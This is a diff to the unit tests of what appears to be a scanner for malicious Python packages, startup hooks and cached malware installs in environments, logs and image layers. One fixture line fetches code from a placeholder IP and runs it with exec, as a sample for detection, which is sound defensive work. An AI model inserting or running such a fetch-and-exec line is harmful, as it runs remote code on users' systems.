@@ -10,18 +10,9 @@ import zipfile
 import zlib
 
 import world
-from world import fresh, install, rules, venv
+from world import check, fresh, install, report, rules, venv
 
 FETCH = b"import urllib.request\nexec(urllib.request.urlopen('https://198.51.100.7/').read())\n"
-
-
-def check(*args, **kw):
-    """By the files alone: what they do when they run is another test's matter."""
-    return world.check("--no-detonate", *args, **kw)
-
-
-def report(*args, **kw):
-    return world.report("--no-detonate", *args, **kw)
 
 
 class Bad:
@@ -133,6 +124,13 @@ class Environments(unittest.TestCase):
         self.assertLessEqual({"startup-exec", "known-malware"}, rules(r, "block"))
         self.assertEqual([e["path"] for e in r["environments"]], ["app/vendor"])
 
+    def test_hashes_of_what_was_installed(self):
+        path, site = venv("direct")
+        install(site, "x", "1", {"x-1.dist-info/direct_url.json": json.dumps(
+            {"url": "https://example.org/x-1.whl", "archive_info": {"hashes": {"sha256": "ab" * 32}}}).encode()})
+        x, = [p for p in report(path)["packages"] if p["name"] == "x"]
+        self.assertEqual(x["hashes"], {"sha256": ["ab" * 32]})
+
     def test_a_fifo_as_a_hook(self):
         path, site = venv("fifo")
         os.mkfifo(site / "x.pth")
@@ -221,9 +219,53 @@ class Fetched(unittest.TestCase):
     def test_the_release_before(self):
         self.assertIn("new-startup-hook", rules(self.report("demo==1.1", code=1)))
 
+    def test_a_file_against_the_index(self):
+        path = world.WORLD / "index/demo-1.1-py3-none-any.whl"
+        self.assertIn("new-startup-hook", rules(self.report(path, "--against", "index", code=1)))
+        self.assertNotIn("new-startup-hook", rules(self.report(path, code=0)))
+
     def test_what_cannot_be_fetched_is_not_clean(self):
         r = self.report("demo==9.9", code=3)
         self.assertIn("only the advisories were asked", r["headline"])
+
+
+class WasItHere(unittest.TestCase):
+    def test_logs(self):
+        path = fresh("logs")
+        logs = {"uv.log": "\x1b[32m+\x1b[0m \x1b[1mlitellm\x1b[0m\x1b[2m==1.82.8\x1b[0m\n",
+                "late.log": "step\n" * 30000 + "Successfully installed litellm-1.82.8\n",
+                "build.txt": "#12 3.4 Successfully installed litellm-1.82.8\n",
+                "timed.log": "2026-03-24T11:02:04Z Downloading litellm-1.82.8-py3-none-any.whl\n"}
+        for name, text in logs.items():
+            (path / name).write_text(text)
+            os.utime(path / name, (1774350000, 1774350000))
+            found = [f for f in report(path / name, code=1)["findings"] if f["rule"] == "installed-before"]
+            self.assertEqual(len(found), 1, name)
+            self.assertEqual("2026-03-24T11:00:00Z" in found[0]["detail"], name != "timed.log", found)
+        (path / "late.log").rename(path / "other.log")
+        r = report(path, code=1)
+        self.assertIn(("other.log", 30001), {(f["path"], f.get("line")) for f in r["findings"]})
+
+    def test_caches(self):
+        home = fresh("caches")
+        (home / ".bashrc").write_text("")
+        uv = home / ".cache/uv/wheels-v5/pypi/litellm"
+        uv.mkdir(parents=True)
+        (uv / "1.82.8-py3-none-any.msgpack").write_bytes(b"x")
+        os.utime(uv / "1.82.8-py3-none-any.msgpack", (1774350000, 1774350000))
+        found = [f for f in report(home, code=2)["findings"] if f["rule"] == "cached-malware"]
+        self.assertEqual(len(found), 1)
+        self.assertIn("put there 2026-03-24T11:00:00Z", found[0]["detail"])
+
+    def test_a_layer_that_is_not_unpacked(self):
+        path, site = venv("layer")
+        world.twin(site)
+        base = "usr/lib/python3/dist-packages/"
+        layer = world.tar(fresh("layers") / "layer.tar.gz", {
+            base + str(f.relative_to(site)): f.read_bytes() for f in site.rglob("*") if f.is_file()})
+        target = layer.with_name("layer.tar")
+        target.write_bytes(__import__("gzip").decompress(layer.read_bytes()))
+        self.assertLessEqual({"known-malware", "startup-exec"}, rules(report(target, code=2), "block"))
 
 
 class Hostile(unittest.TestCase):
